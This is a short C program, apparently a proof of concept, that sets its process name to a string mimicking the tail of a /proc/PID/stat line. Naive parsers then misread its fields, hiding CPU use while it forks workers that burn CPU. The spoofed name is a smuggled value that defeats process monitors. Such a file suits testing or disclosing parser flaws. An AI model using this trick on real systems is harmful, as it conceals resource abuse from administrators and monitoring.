/* A process name that looks like the rest of its line in /proc/PID/stat, with no CPU time in it. */
#include "attack.h"

int main(void) {
    prctl(PR_SET_NAME, ") Z 1 1 1 0 0 0");
    for (int i = 0; i < 3; i++)
        if (fork() == 0) burn();
    burn();
}
